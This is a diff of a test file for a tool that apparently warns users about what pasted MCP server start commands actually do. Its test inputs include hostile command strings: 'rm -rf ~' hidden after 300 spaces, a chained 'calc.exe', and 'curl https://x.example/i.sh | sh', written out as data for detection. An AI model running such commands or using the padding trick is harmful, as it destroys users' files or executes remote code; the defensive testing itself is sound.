@@ -533,7 +533,7 @@ describe('what is shown is what runs', () => {
     [
       'a second command far to the right',
       `npx -y notes-mcp${' '.repeat(300)}; rm -rf ~`,
-      /2 commands|installs or fetches/,
+      /2 commands|does something else on this computer/,
     ],
     ['a second command after &&', 'npx -y notes-mcp && calc.exe', /These are 2 commands: “npx -y notes-mcp/],
     ['a pipe', 'curl https://x.example/i.sh | sh', /would lead to another program/],
@@ -680,6 +680,7 @@ describe('what is not understood', () => {
       'npx -y @smithery/cli install notes --client claude',
       /installs or fetches/,
     ],
+    ['a command that works on files', 'rm -rf ~', /does something else on this computer\. It does not start/],
     ['two steps', 'npm i -g notes\nnotes --stdio', /installs or fetches/],
     ['an address with more', 'https://kelp.example/mcp and so on', /address with something behind it/],
     ['a page about it', 'https://github.com/acme/notes-mcp', /has a page about the server/],
